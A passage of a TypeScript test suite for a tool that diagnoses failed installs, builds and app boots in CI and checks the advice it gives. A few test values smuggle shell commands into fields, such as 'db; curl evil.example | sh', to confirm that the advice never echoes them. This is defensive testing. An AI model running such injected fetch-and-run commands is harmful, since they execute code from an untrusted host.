    '  File "/tmp/checkout/app/shop.py", line 12, in <module>',
    error,
  ];
  const failing = (error: string) => [
    `${at(7)} [INFO] Booting worker with pid: 8`,
    `${at(8)} [ERROR] Exception in worker process`,
    ...traceback(error),
    `${at(8)} [INFO] Worker exiting (pid: 8)`,
  ];
  const halt = traceback("gunicorn.errors.HaltServer: <HaltServer 'Worker failed to boot.' 3>");
  const ends: [string, string[]][] = [
    [
      'in its log',
      [
        `${at(7)} [ERROR] Worker (pid:8) exited with code 3`,
        `${at(7)} [ERROR] Worker (pid:9) was sent SIGTERM!`,
        `${at(7)} [ERROR] Shutting down: Master`,
        `${at(7)} [ERROR] Reason: Worker failed to boot.`,
      ],
    ],
    [
      'in two exceptions of its own',
      [
        `${at(7)} [ERROR] Worker (pid:9) was sent SIGTERM!`,
        ...halt,
        '',
        'During handling of the above exception, another exception occurred:',
        '',
        ...halt,
      ],
    ],
  ];

  it.each(ends)('%s', (_, end) => {
    const first = (error: string) =>
      firstOf(seen({ ...exited(), log: [...failing(error), ...failing(error), ...end] }));
    expect(first("ModuleNotFoundError: No module named 'sqlite4'")).toMatchObject({
      code: 'python-module-missing',
      name: 'sqlite4',
    });
    expect(first('KeyError: 3')).toMatchObject({ code: 'exited', error: 'KeyError: 3' });
  });

  it('but a worker that Linux has ended says no more', () => {
    const log = [`${at(7)} [ERROR] Worker (pid:9) was sent SIGKILL! Perhaps out of memory?`];
    expect(firstOf(seen({ ...exited(), log }))).toMatchObject({
      code: 'exited',
      error: expect.stringContaining('Perhaps out of memory?') as unknown,
    });
  });
});

it('a second cause follows, which may be the first one’s reason', () => {
  const causes = diagnoseBoot(
    seen({
      ...exited(),
      log: crash('Error: cannot read the configuration'),
      project: hints({ exampleEnv }),
      given: ['JWT'],
    }),
  );
  expect(causes.map(({ code }) => code)).toEqual(['exited', 'environment-file-missing']);
  expect(describeCauses(causes)).toBe(
    'node server.js exited with code 1 before the app was ready: Error: cannot read the configuration. See its log; list variables that it needs under env. Also possible: .env.example lists variables that the app does not get: DATABASE_URL. Give those that it needs under env',
  );
});

it.each([
  ['ReferenceError: require is not defined in ES module scope', 'Correct the code'],
  ["SyntaxError: Unexpected token ';'", 'Correct the code'],
  ['panic: assignment to entry in nil map', 'Correct the code'],
  ['SyntaxError: Unexpected token u in JSON at position 0', 'See its log; list variables'],
  ['Error: no configuration', 'See its log; list variables'],
])('the advice about %s is: %s', (error, advice) => {
  const causes = diagnoseBoot(seen({ ...exited(), log: crash(error) }));
  expect(describeCauses(causes)).toContain(`${error}. ${advice}`);
});

it.each<[string, string[]]>([
  [
    'Go',
    ['# example.com/shop', './main.go:18:13: undefined: total', './main.go:20:2: undefined: tax'],
  ],
  ['TypeScript', ["src/main.ts(6,44): error TS2552: Cannot find name 'find'."]],
  [
    'esbuild, which tsx uses',
    [
      '/app/src/main.ts:2:10: ERROR: Unexpected ";"',
      '/app/src/main.ts:9:1: ERROR: Unexpected "}"',
      '    at failureErrorWithLog (/app/node_modules/esbuild/lib/main.js:1752:15)',
    ],
  ],
  [
    'Java',
    [
      'Server.java:10: error: cannot find symbol',
      '      total += tax;',
      '               ^',
      '  symbol:   variable tax',
      '  location: class Server',
      'Server.java:12: error: missing return statement',
      '2 errors',
      'error: compilation failed',
    ],
  ],
  [
    'Rust',
    [
      'error[E0425]: cannot find value `tax` in this scope',
      '  --> src/main.rs:21:25',
      'error: could not compile `shop` (bin "shop") due to 1 previous error',
    ],
  ],
  [
    'Rust, which gives no code to an error of syntax',
    [
      'error: expected one of `.` or `;`, found `}`',
      '  --> src/main.rs:21:25',
      'error: could not compile `shop` (bin "shop") due to 1 previous error',
    ],
  ],
])('an error of the compiler of %s within the start command is a mistake in the code', (_, log) => {
  const error = log.find((line) => /error|undefined/i.test(line))?.replace(/\.$/, '') ?? '';
  const causes = diagnoseBoot(seen({ ...exited(), log }));
  expect(describeCauses(causes)).toContain(`ready: ${error}. Correct the code`);
});

it('the place that a logger of Go puts before its lines makes none of them an error of the compiler', () => {
  const log = [
    'main.go:18:13: listening on :8080',
    'main.go:31:2: cannot read the prices',
    'main.go:40:2: shutting down',
  ];
  expect(errorLineOf(log)).toBe('main.go:31:2: cannot read the prices');
  const said = describeCauses(diagnoseBoot(seen({ ...exited(), log })));
  expect(said).toContain('cannot read the prices. See its log');
  expect(said).not.toContain('Correct the code');
  expect(errorLineOf(log.slice(0, 1))).toBeNull();
});

it.each([
  "main.go:9:1: expected declaration, found '}'",
  'main.go:5:2: package example/none is not in std (/usr/lib/go/src/example/none)',
  'main.go:5:2: no required module provides package example.com/none; to add it',
  'main.go:3:12: pattern static/*.html: no matching files found',
  'main.go:2:11: missing import path',
  '/app/main.go:2:8: invalid import path: a b',
  'main.go:2:11: illegal UTF-8 encoding',
  'main.go:2:8: import "example.com/shop/tool" is a program, not an importable package',
  'main.go:2:8: found packages a (a.go) and b (b.go) in /app/two',
  'main.go:2:8: "./none" is relative, but relative import paths are not supported in module mode',
  'main.go:2:8: local import "./none" in non-local package',
])('what Go says before it compiles is a mistake in the code: %s', (line) => {
  expect(errorLineOf([line])).toBe(line);
  expect(isMistakeInCode([line])).toBe(true);
});

it.each([
  ['dist', true],
  ['all:web/build', true],
  ['dist/*.html', true],
  ['static/*.html', false],
])('%s, which Go is to embed and does not find, is made by a build: %s', (pattern, isOfBuild) => {
  const log = [`main.go:9:12: pattern ${pattern}: no matching files found`];
  const cause = expect.objectContaining({ code: 'embedded-build-missing', pattern }) as unknown;
  expect(diagnoseStep(step({ line: 'go build', log }))).toEqual(isOfBuild ? [cause] : []);
  const folder = pattern.replace('all:', '');
  const empty = `main.go:9:12: pattern ${pattern}: cannot embed directory ${folder}: contains no embeddable files`;
  expect(diagnoseStep(step({ line: 'go build', log: [empty] }))).toEqual(isOfBuild ? [cause] : []);
  const boot = diagnoseBoot(seen({ ...exited(), line: 'go run .', log }));
  expect(boot[0].code === 'embedded-build-missing').toBe(isOfBuild);
});

describe('a file that only the candidate has', () => {
  const base = (candidateModules: string[], file = 'src/server.js') =>
    seen({
      ...exited(),
      line: 'node src/server.js',
      givenStart: 'node ./src/server.js',
      log: [`Error: Cannot find module '/tmp/checkout/app/${file}'`],
      candidateModules,
    });

  it('is no file of a build', () => {
    const causes = diagnoseBoot(base(['src/server.js']));
    expect(causes[0]).toEqual({ code: 'file-of-candidate', file: 'src/server.js', isStart: true });
    expect(describeCauses(causes)).toMatch(
      /^there is no src\/server\.js at this commit, but the candidate has it\. Both sides/,
    );
    const imported = diagnoseBoot(base(['lib/money/index.js'], 'lib/money'));
    expect(imported[0]).toMatchObject({ code: 'file-of-candidate', isStart: false });
  });

  it.each([
    ['the baseline’s own script names it', null, 'src/server.js'],
    ['start names another file whose name ends like it', 'node src/server.js', 'server.js'],
  ])('is not said to be that of one start command if %s', (_, givenStart, file) => {
    const causes = diagnoseBoot({ ...base([file], file), givenStart });
    expect(causes[0]).toEqual({ code: 'file-of-candidate', file, isStart: false });
    expect(describeCauses(causes)).not.toContain('same start command');
  });

  it('may be one if the candidate has it in a folder of builds, or has it not either', () => {
    expect(firstOf(base(['dist/main.js'], 'dist/main.js'))).toMatchObject({
      code: 'build-missing',
    });
    expect(firstOf(base(['server.js']))).toMatchObject({ code: 'build-missing' });
    const project = hints({ outputs: ['release/api'] });
    const released = { ...base(['release/api/main.js'], 'release/api/main.js'), project };
    expect(firstOf(released)).toMatchObject({ code: 'build-missing' });
  });
});

it('a file that the baseline’s build made at another place than the candidate’s is no start for both', () => {
  const causes = diagnoseBoot(
    seen({
      ...exited(),
      line: 'node dist/main.js',
      log: [`Error: Cannot find module '/tmp/checkout/app/dist/main.js'`],
      built: ['dist/src/main.js'],
      candidateModules: ['dist/main.js'],
    }),
  );
  expect(causes[0]).toEqual({ code: 'file-of-candidate', file: 'dist/main.js', isStart: false });
});

it('a class of Java that is not there is one that the build has to make', () => {
  const log = [
    'Error: Could not find or load main class com.acme.Main',
    'Caused by: java.lang.ClassNotFoundException: com.acme.Main',
  ];
  const causes = diagnoseBoot(seen({ ...exited(), line: 'java com.acme.Main', log }));
  expect(causes[0]).toMatchObject({ code: 'build-missing' });
  expect(describeCauses(causes)).toContain('there is no class com.acme.Main at this commit');
});

it('a jar that is not there is one that the build has to make', () => {
  const log = ['Error: Unable to access jarfile target/shop.jar'];
  expect(firstOf(seen({ ...exited(), line: 'java -jar target/shop.jar', log }))).toMatchObject({
    code: 'build-missing',
    file: 'target/shop.jar',
  });
});

it('a file outside of the repository cannot be committed', () => {
  const advice = (path: string) =>
    describeCauses(
      diagnoseBoot(
        seen({
          ...exited(),
          log: crash(`Error: ENOENT: no such file or directory, open '${path}'`),
        }),
      ),
    );
  expect(advice('/run/secrets/key')).toContain('Make it in an earlier step of the workflow');
  expect(advice('config/local')).toContain('Commit it');
});

describe('a file that may hold secrets', () => {
  const adviceFor = (log: string[]) => describeCauses(diagnoseBoot(seen({ ...exited(), log })));
  const opened = (path: string) =>
    adviceFor(crash(`Error: ENOENT: no such file or directory, open '${path}'`));

  it.each(['.env', '.env.local', 'config/.env'])('%s is not to be committed', (file) => {
    expect(opened(file)).toBe(
      `it reads ${file}, which a clean checkout does not have. List the variables that it holds under env, or let build write it from a test secret under env`,
    );
  });

  it.each([
    'serviceAccountKey.json',
    'service-account.json',
    'config/credentials.json',
    'client_secret.json',
    'certs/server.key',
    'certs/server.pem',
    'keys/jwt.p12',
    'firebase-key.json',
  ])('%s is not to be committed either', (file) => {
    expect(opened(file)).toBe(
      `it reads ${file}, which a clean checkout does not have. Let build write it from a test secret under env`,
    );
  });

  it.each(['keyboards.json', 'config/local.json', 'certs/README.md'])('%s is not one', (file) => {
    expect(opened(file)).toContain('Commit it');
  });

  it('is not to be committed if the app imports it', () => {
    const log = [
      "Error: Cannot find module './serviceAccountKey.json'",
      'Require stack:',
      '- /tmp/checkout/app/src/app.js',
    ];
    expect(adviceFor(log)).toMatch(
      /^src\/app\.js imports .*Correct the import, or let build write the file from a test secret under env$/,
    );
  });
});

it('the Node.js that a file asks for is only a hint if the log does not speak of it', () => {
  const node = { file: 'package.json', text: '>=22', running: '20.19.0', isRunning: false };
  const codes = (given: Partial<BootEvidence>) =>
    diagnoseBoot(seen({ project: hints({ node }), ...given })).map(({ code }) => code);
  expect(codes({})).toEqual(['never-listens', 'node-version']);
  expect(codes({ unixSockets: ['/a'] })).toEqual(['unix-socket', 'node-version']);
});

describe('an error that a newer Node.js may not have', () => {
  const unfit = { file: 'package.json', text: '>=22', running: '20.19.0', isRunning: false };
  const codesOf = (error: string, node: ProjectHints['node'] = unfit) =>
    diagnoseBoot(seen({ ...exited(), log: crash(error), project: hints({ node }) })).map(
      ({ code }) => code,
    );

  it.each([
    'SyntaxError: The requested module "node:module" does not provide an export named "registerHooks"',
    'SyntaxError: Cannot use import statement outside a module',
    'SyntaxError: Invalid regular expression flags',
    'Error [ERR_REQUIRE_ESM]: require() of ES Module /app/a.mjs not supported.',
  ])('is of the version if the project asks for another: %s', (error) => {
    expect(codesOf(error)).toEqual(['node-version']);
    expect(codesOf(error, { ...unfit, isRunning: true })).toEqual(['exited']);
    expect(codesOf(error, { ...unfit, isRunning: null })).toEqual(['exited']);
    expect(codesOf(error, null)).toEqual(['exited']);
  });

  it.each([
    'TypeError: Object.groupBy is not a function',
    'SyntaxError: Unexpected token } in JSON at position 7',
    'SyntaxError: Unexpected end of JSON input',
    'SyntaxError: /app/config.json: Unexpected token',
    'SyntaxError: invalid syntax',
  ])('does not count otherwise: %s', (error) => {
    expect(codesOf(error)).toEqual(['exited', 'node-version']);
  });

  it('does not count if it is not what the app ended with', () => {
    const log = ['SyntaxError: Unexpected token "?"', ...crash('TypeError: shop is undefined')];
    const causes = diagnoseBoot(seen({ ...exited(), log, project: hints({ node: unfit }) }));
    expect(causes[0]).toMatchObject({ code: 'exited', error: 'TypeError: shop is undefined' });
  });
});

describe('a file that is not committed', () => {
  const adviceFor = (file: string, ...examples: string[]) =>
    describeCauses([
      firstOf(
        seen({
          ...exited(),
          log: crash(`Error: ENOENT: no such file or directory, open '${file}'`),
          examples,
        }),
      ),
    ]);

  it.each([
    ['settings.json', 'settings.json.example'],
    ['settings.json', 'settings.example.json'],
    ['config/local.yml', 'config/local-sample.yml'],
    ['.env', '.env.template'],
    ['.env', 'example.env'],
    ['db.json', 'default.db.json'],
  ])('%s is made of its example %s', (file, example) => {
    const others = ['other.json.example', 'deep/settings.json.example', 'templates/local.yml'];
    expect(adviceFor(`/tmp/checkout/app/${file}`, ...others, example)).toContain(
      `or make it in build, for example build: cp ${example} ${file}`,
    );
  });

  it('has no made-up example', () => {
    const expected =
      'it reads settings.json, which a clean checkout does not have. Commit it, or make it in build';
    expect(adviceFor('settings.json')).toBe(expected);
    expect(adviceFor('settings.json', 'a/settings.json.example', 'settings.yml.example')).toBe(
      expected,
    );
    expect(adviceFor('settings.json', 'settings.json.example; curl evil')).toBe(expected);
  });
});

it('a route that does not answer is to be mended where the base answers it', () => {
  const answered = { request: 'GET /', status: null, instead: null };
  const said = (hasBaseAnswered: boolean) =>
    describeCauses(diagnoseBoot(seen({ answered, hasBaseAnswered })));
  expect(said(true)).toBe(
    `it accepted GET / on port ${PORT} and did not answer. The baseline answers it: fix that route, or raise ready-timeout if it is meant to take that long`,
  );
  expect(said(false)).toBe(
    `it accepted GET / on port ${PORT} and did not answer. Choose a path that works, or raise ready-timeout`,
  );
});

it.each<[string, Partial<BootEvidence>]>([
  ['500', { answered: { request: 'GET /', status: 500, instead: null } }],
  [
    `500 on port 3000 instead of ${PORT}`,
    { answeredElsewhere: { request: 'GET /', status: 500, instead: null, port: 3000 } },
  ],
])('a side that answers with %s is to be mended where the base answers well', (what, evidence) => {
  const said = (hasBaseAnswered: boolean) =>
    describeCauses(diagnoseBoot(seen({ ...evidence, hasBaseAnswered })));
  expect(said(true)).toBe(
    `it answered GET / with ${what}. Fix that route; if the new status is intended, allow it with expect`,
  );
  expect(said(false)).toBe(
    `it answered GET / with ${what}. Choose a path that works, or allow this status with expect`,
  );
});

it('a failed handshake of TLS is explained by its reason, not by the route', () => {
  const said = (reason: string, hasBaseAnswered: boolean) => {
    const instead = { kind: 'failed-handshake', reason } as const;
    const answered = { request: 'GET /', status: null, instead };
    return describeCauses(diagnoseBoot(seen({ answered, hasBaseAnswered })));
  };
  for (const hasBaseAnswered of [false, true]) {
    expect(said('certificate required', hasBaseAnswered)).toBe(
      `it asks for a client certificate on port ${PORT}, and GET / was sent without. Give each of its scenarios cert-file and key-file under tls in the configuration file`,
    );
  }
  const failed = `the TLS handshake for GET / on port ${PORT} failed: handshake failure.`;
  expect(said('handshake failure', true)).toContain(
    `${failed} It succeeds with the baseline: correct the certificate`,
  );
  expect(said('handshake failure', false)).toContain(`${failed} Correct the certificate`);
});

it.each([
  ['speaks-tls', { kind: 'tls' }],
  ['lacks-tls', { kind: 'no-tls' }],
] as const)(
  'an app on a port of its own is not told to use PORT if only TLS is the reason: %s',
  (code, instead) => {
    const answeredElsewhere = { request: 'GET /', status: null, instead, port: 3000 };
    const listening = [{ host: '::', port: 3000 }];
    for (const hasBaseAnswered of [false, true]) {
      const causes = diagnoseBoot(seen({ answeredElsewhere, listening, hasBaseAnswered }));
      const answeredBy = hasBaseAnswered ? 'baseline' : null;
      expect(causes).toEqual([{ code, request: 'GET /', port: 3000, answeredBy }]);
    }
  },
);

it('one side that serves HTTP and one that serves HTTPS are to be made alike: another setting would break the other one', () => {
  const said = (evidence: Partial<BootEvidence>) => describeCauses(diagnoseBoot(seen(evidence)));
  const answered = { request: 'GET /', status: null, instead: null };
  const secure = { answered, speaksTls: true };
  expect(said({ ...secure, hasBaseAnswered: false })).toBe(
    `it speaks HTTPS on port ${PORT}, and GET / was sent without TLS. Give each of its scenarios tls: true in the configuration file`,
  );
  expect(said({ ...secure, hasBaseAnswered: true })).toBe(
    `it speaks HTTPS on port ${PORT}, and GET / was sent without TLS, as the baseline needs it. Both sides must speak the same to be compared: let the candidate serve HTTP while it is measured, for example by a variable under env. If it cannot, give each of its scenarios tls: true in the configuration file: this change is not compared then, but the next one is`,
  );
  const plain = { answered: { ...answered, instead: { kind: 'no-tls' } } } as const;
  expect(said({ ...plain, hasBaseAnswered: false })).toBe(
    `it does not speak TLS on port ${PORT}, and GET / was sent with TLS. Remove tls from its scenarios in the configuration file, or let the app serve HTTPS there`,
  );
  expect(said({ ...plain, hasBaseAnswered: true })).toBe(
    `it does not speak TLS on port ${PORT}, and GET / was sent with TLS, as the baseline needs it. Both sides must speak the same to be compared: let the candidate serve HTTPS while it is measured, for example by a variable under env. If it cannot, remove tls from its scenarios in the configuration file: this change is not compared then, but the next one is`,
  );
});

it('an app whose log does not name the port that is taken is not said to ignore PORT', () => {
  const log = ['Error: Os { code: 98, kind: AddrInUse, message: "Address already in use" }'];
  expect(describeCauses(diagnoseBoot(seen({ ...exited(), log })))).toBe(
    `the port it wants is taken, and its log does not say whether that is PORT=${PORT}. Let it listen on the port in the variable PORT, or put {port} into start, for example node server.js --port {port}. If it does already, run again`,
  );
});

it('advice that the first cause has given is not repeated by the second', () => {
  const text = describeCauses([
    { code: 'port-taken', port: 3000, assigned: PORT, isSetByStart: false },
    { code: 'other-port', ports: [9000], shared: [], assigned: PORT, isSetByStart: false },
  ]);
  expect(text).toContain('Also possible: it listens on port 9000');
  expect(text.split('Let it listen on the port')).toHaveLength(2);
});

describe('where the start command sets PORT, the app is not said to ignore it', () => {
  const scripts = { start: 'npm run serve', serve: 'NODE_ENV=x PORT=3000 node server.js' };
  const taken = { ...exited(), log: ['Error: listen EADDRINUSE: address already in use :::3000'] };
  const elsewhere = { listening: [{ host: '::', port: 3000 }] };

  it.each([
    ['PORT=3000 node server.js', taken],
    ['npm start', taken],
    ['PORT=3000 node server.js', elsewhere],
    ['npm start', elsewhere],
  ])('%s, %j', (line, evidence) => {
    const cause = firstOf(seen({ line, project: hints({ scripts }), ...evidence }));
    expect(cause).toMatchObject({ isSetByStart: true });
    const text = describeCauses([cause]);
    expect(text).toMatch(/start command sets PORT.*with PORT=\{port\}$/);
    expect(text).not.toMatch(/ignores|Let it listen/);
  });

  it.each([
    [`PORT=${PORT} node server.js`, taken],
    ['PORT=4000 node server.js', taken],
    ['PORT=4000 node server.js', elsewhere],
  ])('but if it is another port, it may: %s, %j', (line, evidence) => {
    const cause = firstOf(seen({ line, ...evidence }));
    expect(cause).toMatchObject({ isSetByStart: false });
    expect(describeCauses([cause])).toContain('Let it listen on the port in the variable PORT');
  });
});

it('the advice contains no command that a file of the pull request could have written', () => {
  const key = 'db; curl evil.example | sh';
  const cause = firstOf(
    seen({
      connections: [{ host: 'x', port: 27_017, end: 'refused' }],
      project: hints({ services: [{ ...MONGO, key }] }),
    }),
  );
  expect(describeCauses([cause])).not.toContain('evil');
  const script = 'a; curl evil.example';
  const loop = firstOf(seen({ starts: [{ script, started: 9, ended: 9 }] }));
  expect(describeCauses([loop])).not.toContain('evil');
});

describe('the first cause of a failed install or build', () => {
  it.each<[string, Partial<StepEvidence>, Partial<BootCause> | undefined]>([
    ['nothing is known', {}, undefined],
    [
      'pnpm is not installed',
      {
        line: 'pnpm install --frozen-lockfile',
        code: 127,
        log: ['/bin/sh: 1: pnpm: not found'],
        project: hints({ packageManager: 'pnpm@9.1.0' }),
      },
      { code: 'package-manager-missing', manager: 'pnpm', isPinned: true },
    ],
    [
      'Yarn 1 is installed, and the project names another',
      {
        line: 'yarn install --immutable',
        log: [
          'error This project\'s package.json defines "packageManager": "yarn@4.1.0". However the current global version of Yarn is 1.22.22.',
        ],
      },
      { code: 'package-manager-missing', manager: 'yarn' },
    ],
    ...[
      'npm error network request to https://git.example/me/x/tarball/main failed, reason: getaddrinfo ENOTFOUND git.example',
      "fatal: unable to access 'https://git.example/a/b/': Could not resolve host: git.example",
      'Error: request to https://git.example/engine.gz failed, reason: socket hang up',
      'go: example.com/x@v1: Get "https://git.example/x": dial tcp: lookup git.example on 127.0.0.53:53: no such host',
    ].map((line): [string, Partial<StepEvidence>, Partial<BootCause>] => [
      `a host cannot be reached: ${line.slice(0, 20)}`,
      { log: [line] },
      { code: 'network-unreachable', host: 'git.example' },
    ]),
    [
      'the registry is down, and packages warn of this Node.js: neither side is to blame',
      {
        log: [
          'npm error code E503',
          'npm error engine Not compatible with your version of node/npm: shop@1.0.0',
        ],
      },
      { code: 'network-failed', line: 'npm error code E503' },
    ],
    [
      'a package refuses this Node.js',
      {
        line: 'yarn install --frozen-lockfile',
        log: [
          'error shop@1.0.0: The engine "node" is incompatible with this module. Expected version ">=22". Got "20.19.0"',
        ],
      },
      { code: 'node-version' },
    ],
    [
      'a registry refuses the login: that a package warns of this Node.js is no reason',
      {
        line: 'npm ci',
        log: [
          'npm warn EBADENGINE Unsupported engine {',
          "npm warn EBADENGINE   package: 'shop@1.0.0',",
          'npm error code E401',
          'npm error 401 Unauthorized - GET https://registry.example/@acme/shop',
        ],
      },
      undefined,
    ],
    ...[
      'warning shop@1.0.0: The engine "node" is incompatible with this module.',
      ' WARN  Unsupported engine: wanted: {"node":">=22"} (current: {"node":"v20.19.0"})',
      'npm WARN EBADENGINE Unsupported engine {',
    ].map((line): [string, Partial<StepEvidence>, undefined] => [
      `a package manager only warns of this Node.js: ${line.slice(0, 20)}`,
      { log: [line, 'error An unexpected error occurred: "no space"'] },
      undefined,
    ]),
    [
      'the compiler does not find a package of the workspace',
      {
        line: 'pnpm run build',
        build: 'pnpm run build',
        log: [
          "src/a.ts(1,20): error TS2307: Cannot find module '@acme/shared' or its corresponding type declarations.",
        ],
        project: hints({
          scripts: { build: 'tsc' },
          dependencies: ['@acme/shared'],
          workspace: WORKSPACE,
        }),
      },
      {
        code: 'workspace-package-not-built',
        name: '@acme/shared',
        command: 'pnpm --filter api... run build',
      },
    ],
    [
      'the compiler is a development dependency, and those were left out',
      {
        code: 127,
        log: ['> shop@1.0.0 build', '> tsc', 'sh: 1: tsc: not found'],
        project: hints({ devDependencies: ['typescript'] }),
        isProduction: true,
      },
      {
        code: 'development-packages-missing',
        name: 'typescript',
        isProduction: true,
        manager: null,
      },
    ],
    [
      'the compiler is a package of Plug’n’Play, which makes no file of it',
      {
        code: 127,
        line: 'tsc',
        log: ['/bin/sh: 1: tsc: not found'],
        project: hints({ devDependencies: ['typescript'], hasPlugAndPlay: true }),
      },
      { code: 'plug-and-play-step', program: 'tsc' },
    ],
    [
      'development packages are installed by the package manager of the lockfile',
      {
        code: 127,
        log: ['sh: 1: tsc: not found'],
        project: hints({ devDependencies: ['typescript'], manager: 'pnpm' }),
      },
      {
        code: 'development-packages-missing',
        name: 'typescript',
        isProduction: false,
        manager: 'pnpm',
      },
    ],
    [
      'the types of Prisma’s client are not there',
      {
        log: [
          `src/db.ts(1,10): error TS2305: Module '"@prisma/client"' has no exported member 'User'.`,
        ],
        project: hints({ scripts: { build: 'tsc' } }),
      },
      { code: 'client-not-generated' },
    ],
    [
      'the lockfile is not that of package.json',
      {
        line: 'npm ci',
        log: [
          'npm error `npm ci` can only install packages when your package.json and package-lock.json are in sync.',
        ],
      },
      {
        code: 'lockfile-outdated',
        manager: 'npm',
        line: 'npm ci can only install packages when your package.json and package-lock.json are in sync',
      },
    ],
    [
      'the lockfile is not that of package.json: the first package that differs',
      {
        line: 'npm ci',
        log: [
          'npm error `npm ci` can only install packages when your package.json and package-lock.json or npm-shrinkwrap.json are in sync. Please update your lock file with `npm install` before continuing.',
          "npm error Invalid: lock file's ms@2.1.3 does not satisfy ms@2.1.2",
          'npm error Missing: uuid@9.0.0 from lock file',
        ],
      },
      {
        code: 'lockfile-outdated',
        manager: 'npm',
        line: "Invalid: lock file's ms@2.1.3 does not satisfy ms@2.1.2 (and 1 more)",
      },
    ],
    ...(
      [
        [
          'npm',
          'npm error The `npm ci` command can only install with an existing package-lock.json or',
        ],
        [
          'pnpm',
          ' ERR_PNPM_NO_LOCKFILE  Cannot install with "frozen-lockfile" because pnpm-lock.yaml is absent',
        ],
        [
          'yarn',
          '➤ YN0028: The lockfile would have been created by this install, which is explicitly forbidden.',
        ],
      ] as const
    ).map(([manager, line]): [string, Partial<StepEvidence>, object] => [
      `there is no lockfile, and ${manager} needs one`,
      { line: `${manager} ci`, log: [line] },
      { code: 'lockfile-missing', manager, other: null },
    ]),
    [
      'npm needs a lockfile, and there is one of pnpm',
      {
        line: 'npm ci',
        project: hints({ manager: 'pnpm' }),
        log: [
          'npm error The `npm ci` command can only install with an existing package-lock.json or',
        ],
      },
      { code: 'lockfile-missing', manager: 'npm', other: 'pnpm' },
    ],
    [
      'the lockfile of pnpm is not that of package.json: its manager updates it',
      {
        line: 'pnpm install --frozen-lockfile',
        log: [
          ' ERR_PNPM_OUTDATED_LOCKFILE  Cannot install with "frozen-lockfile" because pnpm-lock.yaml is not up to date with <ROOT>/packages/api/package.json',
        ],
      },
      {
        code: 'lockfile-outdated',
        manager: 'pnpm',
        line: 'ERR_PNPM_OUTDATED_LOCKFILE Cannot install with "frozen-lockfile" because pnpm-lock.yaml is not up to date with <ROOT>/packages/api/package.json',
      },
    ],
    [
      'the lockfile of pnpm is not that of its settings',
      {
        line: 'pnpm install --frozen-lockfile',
        log: [
          ' ERR_PNPM_LOCKFILE_CONFIG_MISMATCH  Cannot proceed with the frozen installation. The current "overrides" configuration doesn\'t match the value found in the lockfile',
        ],
      },
      { code: 'lockfile-outdated', manager: 'pnpm' },
    ],
    [
      'the lockfile of Yarn is not that of package.json: what it would change comes first',
      {
        line: 'yarn install --immutable',
        log: [
          '➤ YN0028: │ -"accepts@npm:^1.3.8":',
          '➤ YN0028: │ The lockfile would have been modified by this install, which is explicitly forbidden.',
        ],
      },
      {
        code: 'lockfile-outdated',
        manager: 'yarn',
        line: 'The lockfile would have been modified by this install, which is explicitly forbidden',
      },
    ],
    ...[
      'error Your lockfile needs to be updated, but yarn was run with `--frozen-lockfile`.',
      '➤ YN0028: │ The lockfile would have been modified by this install, which is explicitly forbidden.',
    ].map((line): [string, Partial<StepEvidence>, object] => [
      `the lockfile of Yarn is not that of package.json: ${line}`,
      { line: 'yarn install --immutable', log: [line] },
      { code: 'lockfile-outdated', manager: 'yarn' },
    ]),
    [
      'pnpm fails for build scripts that it did not run',
      {
        line: 'pnpm install --frozen-lockfile',
        code: 1,
        log: [
          'Error: ERR_PNPM_IGNORED_BUILDS',
          '  × installing dependencies',
          '  ╰─▶ Ignored build scripts: esbuild@0.18.20, @scope/native@1.2.3',
          '  help: Run "pnpm approve-builds" to pick which dependencies should be allowed',
        ],
      },
      { code: 'build-scripts-ignored', packages: 'esbuild@0.18.20, @scope/native@1.2.3' },
    ],
    [
      'a program is missing',
      { line: 'mak deps', code: 127, log: ['/bin/sh: 1: mak: not found'] },
      { code: 'program-missing', program: 'mak' },
    ],
  ])('%s', (_, evidence, cause) => {
    const [first] = diagnoseStep(step(evidence));
    if (cause === undefined) expect(first).toBeUndefined();
    else expect(first).toMatchObject(cause);
  });

  it('is the only one if the package manager is missing: no other program has to be installed', () => {
    const missing = step({
      line: 'yarn install --frozen-lockfile',
      code: 127,
      log: ['/bin/sh: 1: yarn: not found'],
    });
    expect(diagnoseStep(missing).map(({ code }) => code)).toEqual(['package-manager-missing']);
  });
});

it('the line of an install that failed is what npm did not find, not its remarks', () => {
  expect(
    errorLineOf([
      'npm error code E404',
      'npm error 404 Not Found - GET https://registry.example/x - Not found',
      'npm error 404',
      'npm error 404 Note that you can also install from a',
      'npm error 404 tarball, folder, http url, or git url.',
      'npm error A complete log of this run can be found in: /x',
    ]),
  ).toBe('npm error 404 Not Found - GET https://registry.example/x - Not found');
  expect(
    errorLineOf([
      '➤ YN0000: ┌ Fetch step',
      '➤ YN0035: │ shop@npm:7.0.6: Package not found',
      '➤ YN0035: │   Response Code: 404 (Not Found)',
      '➤ YN0000: └ Completed in 0s 535ms',
      '➤ YN0000: · Failed with errors in 1s 324ms',
    ]),
  ).toBe('➤ YN0035: │ shop@npm:7.0.6: Package not found');
});

describe('the line that says what went wrong', () => {
  it.each<[string, string[], string]>([
    [
      'is the error of Java’s compiler, and not the number of errors',
      ['A.java:1: error: illegal start of type', 'public class A { void x( }', '1 error'],
      'A.java:1: error: illegal start of type',
    ],
    [
      'is the error of Rust’s compiler, and not what cargo says of it',
      [
        'error[E0425]: cannot find function `listen` in this scope',
        ' --> src/main.rs:3:2',
        'For more information about this error, try `rustc --explain E0425`.',
        'error: could not compile `shop` (bin "shop") due to 1 previous error',
      ],
      'error[E0425]: cannot find function `listen` in this scope',
    ],
    [
      'is the exception of Python, and not the link below it',
      [
        'pydantic_core._pydantic_core.ValidationError: 1 validation error for Settings',
        'database_url',
        '  Field required [type=missing, input_value={}, input_type=dict]',
        '    For further information visit https://errors.pydantic.dev/2.5/v/missing',
      ],
      'pydantic_core._pydantic_core.ValidationError: 1 validation error for Settings',
    ],
    [
      'is what pip quotes, and not that there was an error',
      [
        '  error: subprocess-exited-with-error',
        '  × Getting requirements to build wheel did not run successfully.',
        '  ╰─> [14 lines of output]',
        "      error: Multiple top-level packages discovered in a flat-layout: ['app', 'migrations'].",
        '      [end of output]',
        '  note: This error originates from a subprocess, and is likely not a problem with pip.',
        'error: subprocess-exited-with-error',
        '× Getting requirements to build wheel did not run successfully.',
        '╰─> See above for output.',
      ],
      "error: Multiple top-level packages discovered in a flat-layout: ['app', 'migrations']",
    ],
    [
      'is what Spring Boot describes, and not the line of its logger above that',
      [
        '2026-11-29T10:00:00.000Z ERROR 1 --- [shop] [main] o.s.b.d.LoggingFailureAnalysisReporter   : ',
        '',
        '***************************',
        'APPLICATION FAILED TO START',
        '***************************',
        '',
        'Description:',
        '',
